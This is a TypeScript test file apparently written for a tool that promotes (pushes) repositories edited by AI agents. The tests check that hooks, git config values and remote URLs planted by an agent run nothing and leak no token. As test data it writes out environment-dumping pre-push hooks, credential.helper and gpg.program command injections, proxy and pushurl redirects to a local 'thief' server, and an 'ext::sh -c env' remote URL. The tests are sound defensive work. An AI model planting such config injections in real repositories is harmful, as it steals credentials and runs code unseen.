import { once } from 'node:events';
import { chmod, readdir } from 'node:fs/promises';
import { createServer } from 'node:http';
import { type AddressInfo } from 'node:net';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { git, writeFiles } from '../../../test/support/git-ground.ts';
import { branch, createBench, name, startGithub, startThief } from './promote.harness.ts';

describe('what an agent left for a promote', () => {
  it('WS-5: a hook that an agent wrote does not run beside the token', async () => {
    await using github = await startGithub('ghp_secret');
    const setting = { token: 'ghp_secret', apiUrl: github.url };
    const bench = await createBench({ github: setting }, 'https://github.com/acme/api.git');
    await using _ = bench.ground;
    const hooks = path.join(bench.ground.root, 'repos/api/.git/hooks');
    await writeFiles(hooks, { 'pre-push': `#!/bin/sh\nenv > ${bench.ground.root}/leaked\n` });
    await chmod(path.join(hooks, 'pre-push'), 0o755);
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
    expect(await readdir(bench.ground.root)).not.toContain('leaked');
  });

  it('WS-5: what an agent put into the repository’s configuration gets no token', async () => {
    await using github = await startGithub('ghp_secret');
    await using thief = await startThief();
    const setting = { token: 'ghp_secret', apiUrl: github.url };
    const bench = await createBench({ github: setting }, 'https://github.com/acme/api.git');
    await using _ = bench.ground;
    // Each of these would have the thief answer instead of GitHub.
    await git(bench.worktree, 'config', 'http.sslVerify', 'false');
    await git(bench.worktree, 'config', 'http.https://github.com/.proxy', thief.url);
    await git(bench.worktree, 'config', 'remote.origin.pushurl', `${thief.url}/acme/api.git`);
    await git(bench.worktree, 'config', 'credential.helper', `!env > ${bench.ground.root}/leaked; true`);
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'pushed', commits: 1 });
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
    expect(await git(bench.worktree, 'log', '-1', '--format=%s', `origin/${branch}`)).toBe('one');
    expect(thief.knocks).toBe(0);
    expect(await readdir(bench.ground.root)).not.toContain('leaked');
    await bench.commit('two');
    expect((await bench.workspaces.promote(name)).repositories[0]).toMatchObject({ outcome: 'pushed' });
    await git(bench.worktree, 'commit', '-q', '--amend', '-m', 'other');
    const [late] = (await bench.workspaces.promote(name)).repositories;
    expect(late?.note).toContain('The remote has commits of this branch that are not here');
  });

  it('WS-5: without a token, too, nothing runs that an agent wrote, and nothing goes where it said besides', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    const { root } = bench.ground;
    const evil = path.join(root, 'evil.git');
    await git(root, 'init', '-q', '--bare', evil);
    const leak = `#!/bin/sh\nenv >> '${root}/leaked'\n`;
    const script = path.join(root, 'leak.sh');
    await writeFiles(root, {
      'leak.sh': leak,
      'repos/api/.git/hooks/pre-push': leak,
      'repos/api/.git/hooks/reference-transaction': leak,
    });
    // An agent can write to a remote on this machine, too.
    await writeFiles(bench.remote, { 'hooks/pre-receive': leak, 'hooks/post-receive': leak });
    for (const file of ['repos/api/.git/hooks/pre-push', 'repos/api/.git/hooks/reference-transaction'])
      await chmod(path.join(root, file), 0o755);
    for (const hook of ['pre-receive', 'post-receive'])
      await chmod(path.join(bench.remote, 'hooks', hook), 0o755);
    await chmod(script, 0o755);
    for (const [key, value] of [
      ['core.sshCommand', script],
      ['core.hooksPath', path.join(root, 'repos/api/.git/hooks')],
      ['remote.origin.receivepack', script],
      ['remote.origin.pushurl', evil],
      ['remote.origin.vcs', 'leak'],
      [`url.${evil}.insteadOf`, bench.remote],
      ['credential.helper', `!${script}`],
      ['push.gpgSign', 'true'],
      ['gpg.program', script],
    ] as const)
      await git(bench.worktree, 'config', key, value);
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'pushed', remote: bench.remote });
    expect(entry?.note).toContain('`remote.origin.pushurl`');
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('one');
    expect(await git(evil, 'branch', '--list')).toBe('');
    expect(await readdir(root)).not.toContain('leaked');
    expect(await readdir(bench.ground.builders)).toEqual([name]);
    // So it would be by git's own ways: the attack is one.
    await git(bench.worktree, 'config', '--unset', 'remote.origin.vcs');
    await git(bench.worktree, 'push', 'origin', branch).catch(() => '');
    expect(await readdir(root)).toContain('leaked');
  });

  it('WS-5: an address that names a program runs none; one that is relative, and what git-lfs keeps, are known', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    const { root } = bench.ground;
    await git(bench.worktree, 'config', 'protocol.ext.allow', 'always');
    await git(bench.worktree, 'config', 'remote.origin.url', `ext::sh -c env%>${root}/leaked`);
    const [refused] = (await bench.workspaces.promote(name)).repositories;
    expect(refused).toMatchObject({
      outcome: 'failed',
      note: expect.stringContaining("transport 'ext' not allowed"),
    });
    expect(await readdir(root)).not.toContain('leaked');
    await git(bench.worktree, 'config', 'remote.origin.url', path.relative(bench.worktree, bench.remote));
    await writeFiles(bench.worktree, { '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n' });
    await bench.commit('two');
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    expect(entry).toMatchObject({ outcome: 'pushed', note: expect.stringContaining('git lfs push origin') });
    expect(await git(bench.remote, 'log', '-1', '--format=%s', branch)).toBe('two');
  });

  it('WS-5: refused, it names what a repository says about pushing and is not used', async () => {
    const bench = await createBench();
    await using _ = bench.ground;
    const denying = createServer((_request, response) => response.writeHead(401).end());
    denying.listen(0, '127.0.0.1');
    await once(denying, 'listening');
    const { port } = denying.address() as AddressInfo;
    await git(bench.worktree, 'config', 'remote.origin.url', `http://127.0.0.1:${port}/acme/api.git`);
    await git(bench.worktree, 'config', 'credential.helper', '!true');
    const [entry] = (await bench.workspaces.promote(name)).repositories;
    denying.close();
    expect(entry?.note).toMatch(
      /^The remote did not let us in: .*Not used, because agents can write it: `credential\.helper`/s,
    );
  });
});
